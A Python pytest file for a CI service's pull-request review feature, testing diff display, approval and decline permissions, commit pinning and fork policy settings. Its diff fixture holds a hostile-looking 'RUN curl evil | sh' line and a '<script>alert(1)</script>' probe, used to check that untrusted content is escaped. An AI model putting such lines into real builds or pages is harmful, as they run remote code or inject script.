"""Pages and API of pull requests: the choice, the look at a fork's commit, yes and no."""

from __future__ import annotations

import json

import pytest
from django.test import Client
from django.utils import timezone

from accounts.models import AuditEntry, Role
from accounts.tokens import create_token
from builds.actions.holds import held_again
from builds.core.review import read_changes, says_what_runs
from builds.models import Build, Review
from builds.views.review import diff_lines
from tests.builds.pages import words
from tests.factories import COMMIT, make_build, make_member

DIFF = """diff --git a/Dockerfile b/Dockerfile
old mode 100644
new mode 120000
--- a/Dockerfile
+++ b/Dockerfile
@@ -1,2 +1,2 @@
 FROM debian
-RUN make
+RUN curl evil | sh # <script>alert(1)</script>
"""
PAGE = "/r/acme/web/builds/1"


@pytest.fixture
def held(repository) -> Build:
    asked = {"number": 7, "title": "<i>Mend</i>", "author": "stranger", "fork": True, "base_ref": "main", "url": ""}
    build = make_build(
        ref_type="pull_request", cause="pull_request", untrusted=True, pull_request=asked, **held_again()
    )
    files = [{"path": "Dockerfile", "change": "changed", "diff": DIFF, "clipped": True}]
    others = [{"path": "a<b>.py", "change": "added"}]
    told = {"sentence": "It changes 2 files.", "files": files, "others": others, "others_total": 9}
    Review.objects.create(build=build, commit=COMMIT, state="good", **told)
    return build


def api(repository, role: Role) -> Client:
    _, token = create_token(make_member(repository.namespace, f"api-{role}", role), "test")
    return Client(headers={"Authorization": f"Bearer {token}"}, raise_request_exception=False)


def test_the_page_shows_the_change_escaped_and_asks(writer, held):
    answer = writer.get(f"{PAGE}/review")
    page = words(answer)
    assert "+RUN curl evil | sh # <script>alert(1)</script>" in page and "new mode 120000" in page
    assert b"<script>alert(1)" not in answer.content and b"<i>Mend" not in answer.content
    assert "Approve a1b2c3d" in page and "9 other files" in page and "larger than 64 KiB" in page


def test_the_build_s_page_and_home_lead_there(writer, held):
    assert b'href="/r/acme/web/builds/1/review"' in writer.get(PAGE).content
    assert "pull request #7 asks for your approval" in words(writer.get("/"))


def test_a_writer_approves_what_was_shown(writer, held):
    answer = writer.post(f"{PAGE}/approve", {"commit": COMMIT}, follow=True)
    assert "is approved for commit a1b2c3d" in words(answer)
    held.refresh_from_db()
    assert (held.hold, held.approved_by) == ("", "wendy")
    assert AuditEntry.objects.filter(action="build.approve", detail__contains=COMMIT).count() == 1


def test_an_approval_of_a_page_that_showed_another_commit_is_refused(writer, held):
    answer = writer.post(f"{PAGE}/approve", {"commit": "b" * 40}, follow=True)
    assert "Look at that one" in words(answer)
    held.refresh_from_db()
    assert held.hold == "approval"


def test_a_writer_declines_with_a_reason(writer, held):
    assert "declined: not ours" in words(writer.post(f"{PAGE}/decline", {"reason": "not ours"}, follow=True))


def test_a_reader_looks_and_may_not_answer(reader, held):
    assert "Approve a1b2c3d" not in words(reader.get(f"{PAGE}/review"))
    assert reader.post(f"{PAGE}/approve", {"commit": COMMIT}).status_code == 403
    assert reader.post(f"{PAGE}/decline").status_code == 403
    held.refresh_from_db()
    assert (held.state, held.hold) == ("queued", "approval")


def test_a_stranger_sees_nothing(stranger, held):
    assert stranger.get(f"{PAGE}/review").status_code == 404
    assert stranger.post(f"{PAGE}/approve", {"commit": COMMIT}).status_code == 404


def test_a_look_that_failed_says_why_and_can_be_asked_again(writer, held, rings, django_capture_on_commit_callbacks):
    Review.objects.update(state="failed", sentence="The commit is gone.")
    page = words(writer.get(f"{PAGE}/review"))
    assert "The commit is gone" in page and "Look again" in page and "Approve a1b2c3d" not in page
    with django_capture_on_commit_callbacks(execute=True):
        writer.post(f"{PAGE}/review/look")
    assert Review.objects.get().state == "asked" and "builds.review_build" in rings


def test_the_settings_page_keeps_the_choice(owner, writer, repository):
    path = "/r/acme/web/settings/pull-requests"
    assert "shares no cache" in words(owner.get(path))
    assert "of forks too" in words(owner.post(path, {"pull_requests": "forks"}, follow=True))
    assert "are one of" in words(owner.post(path, {"pull_requests": "all"}, follow=True))
    assert writer.get(path).status_code == 403
    repository.source.refresh_from_db()
    assert repository.source.pull_requests == "forks"


def test_the_api_chooses_reads_and_answers(repository, held):
    admin, path = api(repository, Role.ADMIN), "/api/v1/repositories/acme/web/pull-requests"
    answer = admin.put(path, json.dumps({"policy": "forks"}), content_type="application/json")
    assert answer.json() == {"policy": "forks", "waiting": [held.pk]}
    writer, build = api(repository, Role.WRITE), f"/api/v1/builds/{held.pk}"
    assert writer.get(f"{build}/review").json()["files"][0]["diff"] == DIFF
    wrong = writer.post(f"{build}/approve", json.dumps({"commit": "b" * 40}), content_type="application/json")
    right = writer.post(f"{build}/approve", json.dumps({"commit": COMMIT}), content_type="application/json")
    again = writer.post(f"{build}/approve", json.dumps({"commit": COMMIT}), content_type="application/json")
    assert [wrong.status_code, right.status_code, again.status_code] == [409, 202, 409]
    assert "approved by" in again.json()["detail"]


def test_the_api_declines(repository, held):
    writer = api(repository, Role.WRITE)
    answer = writer.post(f"/api/v1/builds/{held.pk}/decline", "{}", content_type="application/json")
    assert (answer.status_code, answer.json()["state"]) == (202, "cancelled")


def test_what_a_fork_s_success_says(reader, held):
    Build.objects.update(state="succeeded", hold="", finished_at=timezone.now(), started_at=timezone.now(), attempt=1)
    assert "The image was not pushed" in words(reader.get(PAGE))


@pytest.mark.parametrize(
    ("path", "says"),
    [
        ("app/Dockerfile", True), (".dockerignore", True), ("app/ctx/.dockerignore", True), ("app/hooks/build", True),
        ("hooks/post_push", True), ("x/hooks/build", False), ("app/docker-compose.test.yml", True),
        (".gitmodules", True), ("Dockerfile.old", True),
        ("app/main.py", False), ("app/Dockerfile.dockerignore", True), ("README.md", False),
    ],
)  # fmt: skip
def test_files_that_say_what_runs(path, says):
    assert says_what_runs(path, dockerfile="app/Dockerfile", context="app/ctx") is says


def test_names_of_changed_files_are_read_whatever_they_are():
    changes = read_changes(b"M\0a b\nc\0A\0-x\xff\0D\0gone\0T\0link\0")
    assert [(one.path, one.change.split()[0]) for one in changes] == [
        ("a b\nc", "changed"), ("-x\ufffd", "added"), ("gone", "removed"), ("link", "became"),
    ]  # fmt: skip


def test_a_diff_without_lines_is_shown_as_it_is():
    assert [line.tone for line in diff_lines("Binary files a and b differ\n")] == ["plain"]
